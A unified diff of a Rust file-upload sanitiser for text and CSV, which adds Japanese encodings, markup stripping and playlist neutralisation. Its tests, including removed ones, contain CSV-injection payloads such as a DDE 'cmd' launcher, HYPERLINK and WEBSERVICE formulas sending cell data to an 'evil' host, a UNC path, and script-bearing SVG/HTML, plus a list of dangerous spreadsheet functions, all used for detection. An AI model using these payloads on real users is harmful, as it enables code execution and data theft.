@@ -1,34 +1,168 @@
 //! Text and CSV.
 //!
-//! Text passes as it is, in the encoding that it has (UTF-8, UTF-16 with a mark, Windows' Japanese), if it is text to
-//! the last byte. What programs would run, follow or show as a page is no text, wherever in it that stands (`markup`,
-//! `script`): whoever saves it gives it a name of his own. What is let through has a name that nothing runs
-//! ([`Kind::name_for`]).
+//! Text passes as it is, in the encoding that it has (UTF-8, UTF-16 with a mark, Windows' Japanese, EUC-JP, the JIS of mails), if
+//! it is text to the last byte. What programs would run, follow or show as a page is no text, wherever in it that stands
+//! (`markup`, `script`): whoever saves it gives it a name of his own. What can be taken out or made harmless without loss of what
+//! people read is: pages in calendars (`cards`), sheets of styles of XML (`prolog`), marks of a page within prose, formulas (`cells`).
+//!
+//! Bytes that are text in two encodings are judged in both, and what is changed is judged anew until nothing is left to change.
+//! What is let through has a name that nothing runs ([`Kind::name_for`]).
+//!
+//! Reading order: [`sanitise`], [`Text::readings`], [`step`].
 
-use encoding_rs::{SHIFT_JIS, UTF_8, UTF_16BE, UTF_16LE};
+use std::borrow::Cow;
+
+use encoding_rs::{EUC_JP, Encoding, ISO_2022_JP, SHIFT_JIS, UTF_8, UTF_16BE, UTF_16LE};
 
 use crate::{
-    kind::Kind,
-    markup, script,
+    blanks::is_nothing,
+    cards,
+    cells::{Harm, neutralise},
+    kind::{Kind, is_letters_by_name},
+    markup, prolog,
+    script::{self, Under},
     settings::Cells,
-    verdict::{Made, Part, Parts, Reason, Refusal, note},
+    verdict::{Part, Parts, Reason, Refusal, Removed, note},
 };
+
+/// What a file is called, and by whom.
+#[derive(Clone, Copy, Debug)]
+pub(crate) enum Called<'n> {
+    /// Whoever uploaded it told this, or nothing. Whoever saves it may call it something else: the name that a message gives is
+    /// another one, and unseen where that is encrypted.
+    Told(Option<&'n str>),
+    /// An archive calls it so, and is written anew with that name.
+    Kept(&'n str),
+}
+
+impl<'n> Called<'n> {
+    fn name(self) -> Option<&'n str> {
+        match self {
+            Self::Told(name) => name,
+            Self::Kept(name) => Some(name),
+        }
+    }
+
+    fn under(self) -> Under {
+        match self {
+            Self::Kept(name) if is_letters_by_name(name) => Under::ItsName,
+            _ => Under::AnyName,
+        }
+    }
+}
+
+/// A text is changed and judged anew this often at most; one that is not settled by then reads otherwise each time.
+const MOST_ROUNDS: u32 = 8;
+
+/// What of a text may be given on.
+pub(crate) fn sanitise(file: &[u8], called: Called<'_>, cells: Cells) -> Result<(Kind, Parts), Refusal> {
+    let mut bytes = Cow::Borrowed(file);
+    let mut removed = Vec::new();
+    let mut kind = None;
+    for _ in 0..MOST_ROUNDS {
+        let readings = Text::readings(&bytes)?;
+        let kind = *kind.get_or_insert_with(|| find_kind(&readings[0], called.name()));
+        let judge =
+            Judge { kind, under: if kind == Kind::Csv { Under::AnyName } else { called.under() }, cells };
+        match step(&readings, &bytes, &judge, &mut removed)? {
+            Some(changed) => bytes = Cow::Owned(changed),
+            None => {
+                let parts = match bytes {
+                    Cow::Borrowed(_) => Parts::as_is(),
+                    Cow::Owned(bytes) => Parts::rebuilt(bytes, removed),
+                };
+                return Ok((kind, parts));
+            }
+        }
+    }
+    Err(Refusal::new(Reason::TwoTypes, "a text that reads otherwise each time it is changed"))
+}
+
+/// By what a text is judged.
+struct Judge {
+    kind: Kind,
+    under: Under,
+    cells: Cells,
+}
+
+/// Judges bytes in each way that they can be read. New bytes are what is judged next; none: nothing is left to change.
+fn step(
+    readings: &[Text],
+    file: &[u8],
+    judge: &Judge,
+    removed: &mut Vec<Removed>,
+) -> Result<Option<Vec<u8>>, Refusal> {
+    for text in readings {
+        let letters = &text.letters;
+        if let Some(left) =
+            cards::without_harm(letters, removed).or_else(|| prolog::without_styles(letters, removed))
+        {
+            return Ok(Some(text.write(&left)));
+        }
+    }
+    for text in readings {
+        if let Some(changed) = text.check(file, judge.under, removed)? {
+            return Ok(Some(changed));
+        }
+    }
+    for (at, text) in readings.iter().enumerate() {
+        // Text by its name: whoever saves it may do so under another one. So nothing may be in it that a spreadsheet would take
+        // for a formula which does something; what prose, lists and source code begin lines with stays.
+        let harm = if at == 0 && judge.kind == Kind::Csv { Harm::Computed } else { Harm::Calls };
+        if let Some(left) = harmless(&text.letters, judge.cells, harm, removed) {
+            return Ok(Some(text.write(&left)));
+        }
+        if text.encoding == ISO_2022_JP
+            && harmless(&in_bytes(file), judge.cells, harm, &mut Vec::new()).is_some()
+        {
+            return Ok(Some(in_unicode(&text.letters)));
+        }
+    }
+    Ok(None)
+}
 
 /// A text in letters, and how it was written.
 pub(crate) struct Text {
     pub(crate) letters: String,
-    encoding: &'static encoding_rs::Encoding,
+    encoding: &'static Encoding,
     has_mark: bool,
 }
 
 impl Text {
-    /// Reads bytes that are text to the last.
+    /// Reads bytes that are text to the last, in Unicode or Windows' Japanese.
     pub(crate) fn read(file: &[u8]) -> Result<Self, Refusal> {
-        let (encoding, mark) = match encoding_rs::Encoding::for_bom(file) {
-            Some((encoding, mark)) => (encoding, mark),
-            None if std::str::from_utf8(file).is_ok() => (UTF_8, 0),
-            None => (SHIFT_JIS, 0),
-        };
+        match Encoding::for_bom(file) {
+            Some((encoding, mark)) => Self::read_as(encoding, file, mark),
+            None if std::str::from_utf8(file).is_ok() => Self::read_as(UTF_8, file, 0),
+            None => Self::read_as(SHIFT_JIS, file, 0),
+        }
+    }
+
+    /// Each text that these bytes are, the likeliest first; there is one at least.
+    fn readings(file: &[u8]) -> Result<Vec<Self>, Refusal> {
+        if Encoding::for_bom(file).is_some() {
+            return Ok(vec![Self::read(file)?]);
+        }
+        // Without its signs for other letters it is ASCII. They are control characters in any other text.
+        if memchr::memchr(ESCAPE, file).is_some()
+            && let Ok(mail) = Self::read_as(ISO_2022_JP, &in_ascii(file), 0)
+        {
+            return Ok(vec![mail]);
+        }
+        if std::str::from_utf8(file).is_ok() {
+            return Ok(vec![Self::read_as(UTF_8, file, 0)?]);
+        }
+        match (Self::read_as(SHIFT_JIS, file, 0), Self::read_as(EUC_JP, file, 0)) {
+            (Ok(windows), Ok(unix)) if is_likelier(&unix.letters, &windows.letters) => {
+                Ok(vec![unix, windows])
+            }
+            (Ok(windows), Ok(unix)) => Ok(vec![windows, unix]),
+            (Ok(one), Err(_)) | (Err(_), Ok(one)) => Ok(vec![one]),
+            (Err(refusal), Err(_)) => Err(refusal),
+        }
+    }
+
+    fn read_as(encoding: &'static Encoding, file: &[u8], mark: usize) -> Result<Self, Refusal> {
         let letters = encoding.decode_without_bom_handling_and_without_replacement(&file[mark..]);
         let letters =
             letters.ok_or_else(|| Refusal::new(Reason::Unknown, "neither a known type nor text"))?;
@@ -43,38 +177,100 @@ impl Text {
     }
 
     /// The letters of bytes from the same file.
-    pub(crate) fn of<'b>(&self, bytes: &'b [u8]) -> std::borrow::Cow<'b, str> {
+    pub(crate) fn of<'b>(&self, bytes: &'b [u8]) -> Cow<'b, str> {
         self.encoding.decode_without_bom_handling(bytes).0
     }
 
-    /// Other letters as the text was written.
+    /// Other letters as the text was written; in Unicode where its encoding has not all of them.
     fn write(&self, letters: &str) -> Vec<u8> {
         let mark = if self.has_mark { "\u{feff}" } else { "" };
         let marked = || format!("{mark}{letters}").encode_utf16().collect::<Vec<_>>();
         match self.encoding {
             encoding if encoding == UTF_16LE => marked().into_iter().flat_map(u16::to_le_bytes).collect(),
             encoding if encoding == UTF_16BE => marked().into_iter().flat_map(u16::to_be_bytes).collect(),
-            encoding if encoding == SHIFT_JIS => SHIFT_JIS.encode(letters).0.into_owned(),
-            _ => format!("{mark}{letters}").into_bytes(),
+            encoding if encoding == UTF_8 => format!("{mark}{letters}").into_bytes(),
+            encoding => match encoding.encode(letters) {
+                (bytes, _, false) => bytes.into_owned(),
+                (_, _, true) => in_unicode(letters),
+            },
         }
     }
 
-    /// What of text it is: refused if programs would run it or open it as more than letters, whatever its name says.
-    pub(crate) fn check(&self, file: &[u8]) -> Result<(), Refusal> {
-        markup::check(&self.letters)?;
-        script::check(&self.letters)?;
+    /// What of text it is: refused if programs would run it or open it as more than letters. New bytes are those of a text whose
+    /// marks of a page stand within prose: there they are made none.
+    fn check(
+        &self,
+        file: &[u8],
+        under: Under,
+        removed: &mut Vec<Removed>,
+    ) -> Result<Option<Vec<u8>>, Refusal> {
+        let is_page = |letters: &str| letters.trim_start_matches(is_nothing).starts_with('<');
+        let is_inert = |letters: &str| under == Under::ItsName && !is_page(letters);
+        if !is_inert(&self.letters)
+            && let Err(refusal) = markup::check(&self.letters)
+        {
+            if is_page(&self.letters) {
+                return Err(refusal);
+            }
+            let (apart, count) = markup::apart(&self.letters);
+            if count == 0 {
+                return Err(refusal);
+            }
+            note(removed, Part::Markup, format!("{count} places"));
+            return Ok(Some(self.write(&apart)));
+        }
+        script::check(&self.letters, under)?;
+        script::check_short(&self.letters, under)?;
         if self.encoding == UTF_8 {
-            return Ok(());
+            return Ok(None);
         }
         // A program that reads other letters finds its own among the bytes.
-        let bytes: String = file.iter().copied().map(char::from).collect();
-        markup::check(&bytes)?;
-        script::check(&bytes)
+        let bytes = in_bytes(file);
+        let markup = if is_inert(&bytes) { Ok(()) } else { markup::check(&bytes) };
+        // Where the bytes of its ASCII are those of any, its lines have been looked at, with what is told between them.
+        let is_ascii = self.encoding == SHIFT_JIS || self.encoding == EUC_JP;
+        let short = if is_ascii { Ok(()) } else { script::check_short(&bytes, under) };
+        match markup.and_then(|()| script::check(&bytes, under)).and(short) {
+            Ok(()) => Ok(None),
+            // Two ASCII letters make one of these, which may look like anything by chance. In Unicode they are none.
+            Err(_) if self.encoding == ISO_2022_JP => Ok(Some(in_unicode(&self.letters))),
+            Err(refusal) => Err(refusal),
+        }
     }
 }
 
+const ESCAPE: u8 = 0x1b;
+
+/// Text of mails without JIS's own Roman letters, in which a yen sign stands for the backslash: programs take it for one.
+fn in_ascii(file: &[u8]) -> Vec<u8> {
+    let mut bytes = file.to_vec();
+    for at in memchr::memmem::find_iter(file, b"\x1b(J") {
+        bytes[at + 2] = b'B';
+    }
+    bytes
+}
+
+/// A letter for each byte, as programs read them that know none but ASCII's.
+fn in_bytes(file: &[u8]) -> String {
+    file.iter().copied().map(char::from).collect()
+}
+
+fn in_unicode(letters: &str) -> Vec<u8> {
+    format!("\u{feff}{letters}").into_bytes()
+}
+
+/// Whether bytes that are text in EUC-JP as well as in Windows' Japanese are rather the former: kana are in every Japanese
+/// sentence, and read as Windows' they are of half width.
+fn is_likelier(unix: &str, windows: &str) -> bool {
+    let is_kana = |letter: &char| ('ぁ'..='ヶ').contains(letter);
+    let is_half = |letter: &char| ('\u{ff61}'..='\u{ff9f}').contains(letter);
+    let count = |text: &str, is_one: &dyn Fn(&char) -> bool| text.chars().filter(|one| is_one(one)).count();
+    count(unix, &is_kana) > 0
+        && 2 * count(windows, &is_half) > count(windows, &|letter: &char| !letter.is_ascii())
+}
+
 /// Whether a text is a table: by its name, or if it has none by its look.
-pub(crate) fn kind(text: &Text, name: Option<&str>) -> Kind {
+fn find_kind(text: &Text, name: Option<&str>) -> Kind {
     let end = name.and_then(|name| name.rsplit_once('.')).map(|(_, end)| end.to_lowercase());
     match end.as_deref() {
         // Excel opens these by a double click.
@@ -89,9 +285,23 @@ pub(crate) fn kind(text: &Text, name: Option<&str>) -> Kind {
     }
 }
 
-/// A table, in which no cell is computed when it is opened.
-pub(crate) fn table(text: &Text, cells: Cells) -> Made {
-    without(text, cells, Harm::Computed)
+/// A text without formulas and lines that lead away, if there are any in it.
+fn harmless(letters: &str, cells: Cells, harm: Harm, removed: &mut Vec<Removed>) -> Option<String> {
+    let (left, changed) = match cells {
+        Cells::Kept => (Cow::Borrowed(letters), 0),
+        Cells::Neutralised => {
+            let (left, changed) = neutralise(letters, harm);
+            (Cow::Owned(left), changed)
+        }
+    };
+    if changed > 0 {
+        note(removed, Part::FormulaCell, format!("{changed} cells"));
+    }
+    let (here, away) = kept_here(&left);
+    if away > 0 {
+        note(removed, Part::Link, format!("{away} lines"));
+    }
+    (changed + away > 0).then_some(here)
 }
 
 /// What a line begins with that is no other machine of the own network: names that lead to none of the world's.
@@ -102,8 +312,9 @@ const OWN: &[&str] =
 /// line for a file, and tells that machine who sits before it. Says how many there were; paths in a sentence stay.
 fn kept_here(letters: &str) -> (String, usize) {
     let (mut out, mut changed) = (String::with_capacity(letters.len() + 16), 0);
+    let is_played = is_list(letters);
     for line in letters.split_inclusive(['\n', '\r']) {
-        if leads_away(line) {
+        if leads_away(line) || is_played && is_address(line) {
             out.push('\'');
             changed += 1;
         }
@@ -114,7 +325,7 @@ fn kept_here(letters: &str) -> (String, usize) {
 
 /// Whether a line begins as a path to a machine of the world.
 fn leads_away(line: &str) -> bool {
-    let path = line.trim_start_matches(|letter| markup::is_nothing(letter) || letter == '"');
+    let path = line.trim_start_matches(|letter| is_nothing(letter) || letter == '"');
     let path = match path.get(..5) {
         Some(scheme) if scheme.eq_ignore_ascii_case("file:") => &path[5..],
         _ => path,
@@ -147,322 +358,43 @@ fn leads_away(line: &str) -> bool {
     name.contains('.') && !OWN.iter().any(|own| name.ends_with(own))
 }
 
-/// Text by its name. Whoever saves it may do so under another one: the name that a message gives is not the one that was
-/// uploaded with the file. So nothing may be in it that a spreadsheet would take for a formula which does something; what
-/// prose, lists and source code begin lines with stays.
-pub(crate) fn plain(text: &Text, cells: Cells) -> Made {
-    without(text, cells, Harm::Calls)
-}
-
-fn without(text: &Text, cells: Cells, harm: Harm) -> Made {
-    let mut removed = Vec::new();
-    let (mut letters, changed) = match cells {
-        Cells::Kept => (text.letters.clone(), 0),
-        Cells::Neutralised => neutralise(&text.letters, harm),
-    };
-    if changed > 0 {
-        note(&mut removed, Part::FormulaCell, format!("{changed} cells"));
-    }
-    let (here, away) = kept_here(&letters);
-    if away > 0 {
-        note(&mut removed, Part::Link, format!("{away} lines"));
-        letters = here;
-    }
-    if removed.is_empty() {
-        return Ok(Parts::as_is());
-    }
-    Ok(Parts::rebuilt(text.write(&letters), removed))
-}
-
-/// Which cells are harmful.
-#[derive(Clone, Copy)]
-enum Harm {
-    /// Those that would be computed.
-    Computed,
-    /// Those that would be computed and reach for something: a function, a program, another file.
-    Calls,
-}
-
-/// Puts an apostrophe before each cell that is harmful as it begins here, in quotes or not; says how many there were.
-///
-/// A cell begins after comma, semicolon, tab or a new line outside of quotes, whichever of them divides this table:
-/// Excel decides that by the region of whoever opens it, or by what a first line `sep=` names. Whether something is in quotes
-/// is read in both ways that there are: a quote inside a cell that has not begun with one is a letter for some programs,
-/// and begins something quoted for others.
-fn neutralise(letters: &str, harm: Harm) -> (String, usize) {
-    let named = divider_of(letters);
-    let divides = |letter: char| matches!(letter, ',' | ';' | '\t' | '\n' | '\r') || Some(letter) == named;
-    let mut out = String::with_capacity(letters.len() + 16);
-    let mut ahead = Ahead::new(letters);
-    // As those read it for whom only a cell's first letter opens quotes, and as those for whom each quote does.
-    let (mut strict, mut loose) = (false, false);
-    let (mut changed, mut begins) = (0, true);
-    let mut all = letters.char_indices().peekable();
-    while let Some((at, letter)) = all.next() {
-        if letter == '"' {
-            out.push(letter);
-            loose = !loose;
-            if !strict {
-                strict = begins;
-            } else if all.next_if(|(_, next)| *next == '"').is_some() {
-                out.push('"');
-                loose = !loose;
-            } else {
-                strict = false;
-            }
-            // What a cell is begins after its quotes.
-            continue;
-        }
-        let is_harmful = begins
-            && is_computed(letters, at, strict, named)
-            && match harm {
-                Harm::Computed => true,
-                Harm::Calls => ahead.is_call(at, strict),
-            };
-        if is_harmful {
-            out.push('\'');
-            changed += 1;
-        }
-        begins = divides(letter) && !(strict && loose);
-        out.push(letter);
-    }
-    (out, changed)
-}
-
-/// The letter that a first line names as what divides the cells, for Excel.
-fn divider_of(letters: &str) -> Option<char> {
-    let line = letters.trim_start_matches('\u{feff}').lines().next()?;
-    let named = line.get(..4).filter(|begin| begin.eq_ignore_ascii_case("sep="))?;
-    line[named.len()..].chars().next()
-}
-
-/// Whether a letter is something that is looked for, after those before it.
-type Mark = fn(&str, char) -> bool;
-
-/// What is looked for behind a cell's begin: its ends, and what makes a call of it.
-const MARKS: [Mark; 7] = [
-    |_, letter| letter == '"',
-    |_, letter| matches!(letter, '\n' | '\r'),
-    |_, letter| matches!(letter, '(' | '|' | '!' | '（' | '｜' | '！'),
-    |_, letter| matches!(letter, '|' | '｜'),
-    |_, letter| matches!(letter, '!' | '！'),
-    |before, letter| matches!(letter, '(' | '（') && reaches(before),
-    |before, letter| matches!(letter, '!' | '！') && before.ends_with(['\'', '＇', ']', '］']),
-];
-const QUOTE: usize = 0;
-const LINE: usize = 1;
-const REACH: usize = 2;
-const BAR: usize = 3;
-const MARK: usize = 4;
-const FAR_CALL: usize = 5;
-const FAR_SHEET: usize = 6;
-
-/// Functions of spreadsheets that load something, send something or run something, as far as they are written in a text.
-const FAR: &[&str] = &[
-    "HYPERLINK",
-    "WEBSERVICE",
-    "IMAGE",
-    "CALL",
-    "REGISTER",
-    "REGISTER.ID",
-    "EXEC",
-    "EXECUTE",
-    "RUN",
-    "RTD",
-    "DDE",
-    "INDIRECT",
-    "SQL.REQUEST",
-    "IMPORTXML",
-    "IMPORTDATA",
-    "IMPORTHTML",
-    "IMPORTFEED",
-    "IMPORTRANGE",
-    "FILES",
-    "FOPEN",
-    "STOCKHISTORY",
+/// What files that are played end in.
+const PLAYED: &[&str] = &[
+    "mp3", "m4a", "aac", "wav", "wma", "ogg", "flac", "mp4", "m4v", "mov", "avi", "wmv", "mkv", "ts", "m3u8",
+    "asf",
 ];
 
-/// Whether the name of such a function stands at the end, in letters of any width.
-fn reaches(before: &str) -> bool {
-    // No name is longer.
-    let letters = before.trim_end_matches(is_before).chars().rev().take(16);
-    let letters = letters.map(|letter| match letter {
-        '！'..='～' => u32::from(letter).checked_sub(0xfee0).and_then(char::from_u32).unwrap_or(letter),
-        letter => letter,
+/// Ways to files that only programs which play or fetch them go.
+const STREAMED: &[&str] = &["mms:", "mmsh:", "rtsp:", "rtmp:", "smb:", "nfs:"];
+
+/// Whether a text is nothing but addresses of what is played: a list for programs that play it, which fetch them at once. In a
+/// letter such an address is a link like others.
+fn is_list(letters: &str) -> bool {
+    let mut lines = letters.lines().map(|line| line.trim_matches(is_nothing));
+    let mut has_address = false;
+    let is_list = lines.all(|line| {
+        let is_one = is_address(line);
+        has_address |= is_one;
+        is_one || line.is_empty() || line.starts_with('#')
     });
-    let name: Vec<char> = letters
-        .take_while(|letter| letter.is_alphanumeric() || *letter == '.')
-        .map(|letter| letter.to_ascii_uppercase())
-        .collect();
-    FAR.iter().any(|far| far.chars().rev().eq(name.iter().copied()))
+    is_list && has_address
 }
 
-/// What comes next of each mark, for places that are asked for in their order: each letter is looked at once for a mark,
-/// however many cells begin before it.
-struct Ahead<'t> {
-    letters: &'t str,
-    next: [Option<usize>; MARKS.len()],
-}
-
-impl<'t> Ahead<'t> {
-    fn new(letters: &'t str) -> Self {
-        Self { letters, next: [None; MARKS.len()] }
-    }
-
-    /// Where a mark is next, from here on; the end if it comes no more.
-    fn next(&mut self, mark: usize, at: usize) -> usize {
-        if let Some(next) = self.next[mark].filter(|next| *next >= at) {
-            return next;
-        }
-        let letters = self.letters;
-        let is_it = |(behind, letter): &(usize, char)| MARKS[mark](&letters[..at + behind], *letter);
-        let found = letters[at..].char_indices().find(is_it);
-        let next = found.map_or(self.letters.len(), |(behind, _)| at + behind);
-        self.next[mark] = Some(next);
-        next
-    }
-
-    /// Whether a cell that begins here and would be computed reaches for something: a function, a program, another file. A sum
-    /// of numbers does not, nor a heading's line of signs, a list's dash before a word, or somebody's name after an `@`. Programs
-    /// take a formula with a blank behind its sign as well.
-    fn is_call(&mut self, at: usize, quoted: bool) -> bool {
-        let end = self.next(if quoted { QUOTE } else { LINE }, at);
-        let line = self.letters[at..end].trim_start_matches(is_before);
-        let is_heading =
-            |formula: &str| formula.starts_with(|letter: char| letter.is_whitespace() || letter == '=');
-        if line.strip_prefix(['=', '＝']).is_some_and(|formula| !is_heading(formula)) {
-            return self.next(REACH, at) < end;
-        }
-        // Lists, patches and programs begin lines with a sign, and have names and brackets behind it: those call nothing by
-        // a name of their own making.
-        let is_far = self.next(FAR_CALL, at) < end || self.next(FAR_SHEET, at) < end;
-        is_far || self.next(BAR, at) < end && self.next(MARK, at) < end
-    }
-}
-
-/// What programs pass over before a cell's first letter; Excel's Japanese edition takes full-width blanks for that as well.
-fn is_before(letter: char) -> bool {
-    letter != '\n' && letter != '\r' && markup::is_nothing(letter)
-}
-
-/// Whether a cell that begins here would be computed. Numbers and dashes are not. No more of it is looked at than is one, and
-/// nothing beyond the letter that a first line names as what divides.
-fn is_computed(letters: &str, at: usize, quoted: bool, named: Option<char>) -> bool {
-    let rest = &letters[at..];
-    let is_own = |letter: char| Some(letter) != named;
-    let is_blank = |letter: char| is_before(letter) && letter != '\t' && is_own(letter);
-    if quoted && rest.trim_start_matches(is_blank).starts_with('\t') {
-        return true;
-    }
-    let opens = quoted && letters[..at].ends_with('"');
-    let cell = match opens {
-        true => rest.trim_start_matches(|letter| markup::is_nothing(letter) && is_own(letter)),
-        false => rest.trim_start_matches(is_blank),
-    };
-    let is_sign = |letter: char| matches!(letter, '+' | '-' | '＋' | '－') && is_own(letter);
-    if !cell.starts_with(|letter| is_sign(letter) || matches!(letter, '=' | '@' | '＝' | '＠')) {
+/// Whether a line is the address of something that is played.
+fn is_address(line: &str) -> bool {
+    let line = line.trim_matches(is_nothing).to_ascii_lowercase();
+    if line.contains(char::is_whitespace) {
         return false;
     }
-    let ends: &[char] = if quoted { &['"'] } else { &[',', ';', '\t', '\n', '\r'] };
-    let is_end = |rest: &str| {
-        rest.is_empty() || rest.starts_with(ends) || named.is_some_and(|one| rest.starts_with(one))
-    };
-    let number = cell.trim_start_matches(is_sign);
-    let part = |letter: char| {
-        is_own(letter) && (letter.is_ascii_digit() || letter == '.' || quoted && letter == ',')
-    };
-    let behind = number.trim_start_matches(part);
-    let has_digit = number[..number.len() - behind.len()].contains(|letter: char| letter.is_ascii_digit());
-    let unit = behind.trim_start_matches(|letter| matches!(letter, '%' | '％' | '円') && is_own(letter));
-    // Signs and units of a number are few.
-    let is_short = cell.len() - number.len() + behind.len() - unit.len() <= 6;
-    let is_number = has_digit && is_short && is_end(unit.trim_start_matches(is_blank));
-    let is_dash = is_end(
-        cell.trim_start_matches(|letter| matches!(letter, '-' | '－') && is_own(letter))
-            .trim_start_matches(is_blank),
-    );
-    !is_number && !is_dash
+    let path = line.split(['?', '#']).next().unwrap_or(&line);
+    let end = path.rsplit_once('.').map_or("", |(_, end)| end);
+    STREAMED.iter().any(|way| line.starts_with(way))
+        || line.starts_with("http") && line.contains("://") && PLAYED.contains(&end)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn cells_that_would_be_computed_are_not_and_numbers_stay_numbers() {
-        let cases = [
-            ("=1+1,2", "'=1+1,2"),
-            ("a,=cmd|' /C calc'!A0", "a,'=cmd|' /C calc'!A0"),
-            ("\"=HYPERLINK(\"\"http://x\"\")\",b", "\"'=HYPERLINK(\"\"http://x\"\")\",b"),
-            ("-5,+3.5,-1200円,-5%,-,--", "-5,+3.5,-1200円,-5%,-,--"),
-            ("\"-1,234\"", "\"-1,234\""),
-            ("@SUM(A1)", "'@SUM(A1)"),
-            ("＝1+1", "'＝1+1"),
-            ("x; =1+1", "x;' =1+1"),
-            ("+81-76-220-2111", "'+81-76-220-2111"),
-            ("\"\t=1\"", "\"'\t=1\""),
-            ("名前,所属\r\n-A1,b\r\n", "名前,所属\r\n'-A1,b\r\n"),
-            ("\"a\n=1\",b", "\"a\n=1\",b"),
-            ("5\" nail,1\n=1+1,2", "5\" nail,1\n'=1+1,2"),
-            ("a\"\n=1+1,2", "a\"\n'=1+1,2"),
-            ("5\" nail,=1+1", "5\" nail,'=1+1"),
-            ("\"a\"\"\n\",\n=1", "\"a\"\"\n\",\n'=1"),
-            ("sep=^\na^=1+1", "sep=^\na^'=1+1"),
-            ("SEP=|\nx|=1+1", "SEP=|\nx|'=1+1"),
-            ("\"\n=1+1\",b", "\"'\n=1+1\",b"),
-            ("\"\r\n住所\",b", "\"\r\n住所\",b"),
-            ("a,\u{200b}=1+1", "a,'\u{200b}=1+1"),
-        ];
-        for (given, wanted) in cases {
-            assert_eq!(neutralise(given, Harm::Computed).0, wanted);
-        }
-    }
-
-    #[test]
-    fn text_that_is_saved_as_a_table_reaches_for_nothing_and_prose_stays_as_it_is() {
-        let harmful = [
-            "=cmd|' /C calc'!A0",
-            "名前\n=HYPERLINK(\"http://x\",1)",
-            "a,@HYPERLINK(\"http://x\")",
-            "= WEBSERVICE(\"http://x\")",
-            "a\t+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0",
-            "＝ＷＥＢＳＥＲＶＩＣＥ（1）",
-            "='http://x/[a.xls]b'!A1",
-            "+(1)+IMAGE(A1)",
-            "\"=IMPORTXML(\"\"http://x\"\")\"",
-            "+ cmd|'/c calc'!A0",
-            "+\u{a0}cmd|'/c calc'!A0",
-            "+ \tcmd|x!A0",
-            "- HYPERLINK(\"http://evil/\"&B1,\"x\")",
-            "+\u{3000}WEBSERVICE (\"http://x\")",
-            "＋　ＷＥＢＳＥＲＶＩＣＥ（1）",
-            "@ SUM(cmd|'/c calc'!A0)",
-            "- 1+hyperlink(\"http://evil/\")",
-            "+ 'http://x/[a.xls]b'!A1",
-        ];
-        for text in harmful {
-            assert_eq!(neutralise(text, Harm::Calls).1, 1, "{text}");
-        }
-        let prose = [
-            "- 橋の点検 (国道)\n- 完了!",
-            "=====\n見出し\n=====",
-            "-1200円 (税込)",
-            "@hanako よろしく (至急)",
-            "+81-76-220-2111",
-            "a = f(x)\n  if (a) {}",
-            "=1+1",
-            "-v, --verbose",
-            "- f(x) を使う\n- 点検（国道）\n- 画像(image)を貼る!",
-            "- `open(file)`: 開く\n- run it (twice)",
-            "-print(\"a\")\n+print(\"b\")\n@app.route(\"/\")\n@Test(expected=E.class)\n@import url(\"a.css\")",
-            "= 見出し (a)\n== 節 (b) ==",
-            "a,@SUM(1)",
-        ];
-        for text in prose {
-            assert_eq!(neutralise(text, Harm::Calls).1, 0, "{text}");
-        }
-    }
 
     #[test]
     fn a_line_that_is_a_path_to_a_machine_of_the_world_leads_there_no_more() {
@@ -488,16 +420,16 @@ mod tests {
             "// a comment. It ends here.",
             "//",
             "/etc/hosts.conf",
-            "https://www.city.example.jp/a.mp3",
+            "音声: https://www.city.example.jp/a.mp3",
             "保存先: \\\\evil.example\\s",
             "file:///C:/temp/a.txt",
         ] {
             assert_eq!(kept_here(line).1, 0, "{line}");
         }
-        let text = Text::read(b"\\\\evil.example\\a\r\n").unwrap_or_else(|refusal| panic!("{refusal:?}"));
         for cells in [Cells::Kept, Cells::Neutralised] {
+            let made = sanitise(b"\\\\evil.example\\a\r\n", Called::Told(None), cells);
             assert_eq!(
-                plain(&text, cells).ok().and_then(|made| made.bytes).as_deref(),
+                made.ok().and_then(|(_, made)| made.bytes).as_deref(),
                 Some(&b"'\\\\evil.example\\a\r\n"[..])
             );
         }
@@ -506,16 +438,19 @@ mod tests {
     #[test]
     fn a_table_keeps_its_encoding() {
         let file = SHIFT_JIS.encode("表,能\r\n=1,ソ\r\n").0.into_owned();
-        let text = Text::read(&file).unwrap_or_else(|refusal| panic!("{refusal:?}"));
-        let made = table(&text, Cells::Neutralised).ok().and_then(|parts| parts.bytes);
-        assert_eq!(made, Some(SHIFT_JIS.encode("表,能\r\n'=1,ソ\r\n").0.into_owned()));
-        assert!(matches!(table(&text, Cells::Kept), Ok(Parts { bytes: None, .. })));
+        let made =
+            |cells| sanitise(&file, Called::Told(Some("a.csv")), cells).ok().map(|(_, made)| made.bytes);
+        assert_eq!(
+            made(Cells::Neutralised),
+            Some(Some(SHIFT_JIS.encode("表,能\r\n'=1,ソ\r\n").0.into_owned()))
+        );
+        assert_eq!(made(Cells::Kept), Some(None));
     }
 
     #[test]
     fn pages_and_sheets_in_text_are_refused() {
-        let reason =
-            |file: &[u8]| Text::read(file).and_then(|text| text.check(file)).map_err(|r| r.reason).err();
+        let made = |file: &[u8]| sanitise(file, Called::Told(None), Cells::Kept);
+        let reason = |file: &[u8]| made(file).map_err(|refusal| refusal.reason).err();
         assert_eq!(reason(b"\xef\xbb\xbf <!DOCTYPE html><p>"), Some(Reason::Page));
         assert_eq!(reason(b"<?xml version='1.0'?><svg onload='x'/>"), Some(Reason::Svg));
         assert_eq!(reason(b"ID;PWXL;N;E\n"), Some(Reason::NotAllowed));
@@ -527,43 +462,5 @@ mod tests {
         let page = [&b"\xff\xfe"[..], b"<script>x()</script>"].concat();
         assert_eq!(reason(&page), Some(Reason::Page));
         assert_eq!(reason("こんにちは\r\n\u{1a}".as_bytes()), None);
-    }
-
-    #[test]
-    fn a_megabyte_of_cells_takes_less_than_a_second_of_the_processor() {
-        // Time on the processor, in nanoseconds: others may have it meanwhile.
-        let used = || -> u64 {
-            let told = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
-            told.split(' ').next().and_then(|first| first.parse().ok()).unwrap_or_default()
-        };
-        let time = |table: &str| {
-            for harm in [Harm::Computed, Harm::Calls] {
-                let begun = used();
-                neutralise(table, harm);
-                let taken = (used() - begun) / 1_000_000;
-                assert!(taken < 1000, "{:?}: {taken} ms", table.get(..12));
-            }
-        };
-        for divider in [' ', '-', '+', '\u{3000}', '%'] {
-            for piece in [" ", "-", "+", "-1", "\u{3000}", "-1%"] {
-                time(&format!("sep={divider}\n{}", piece.repeat((1 << 16) / piece.len())));
-            }
-        }
-        for piece in [
-            "=,",
-            "+,",
-            "-1,",
-            "=a,\"",
-            "\"=,",
-            "x\"y,\"=,",
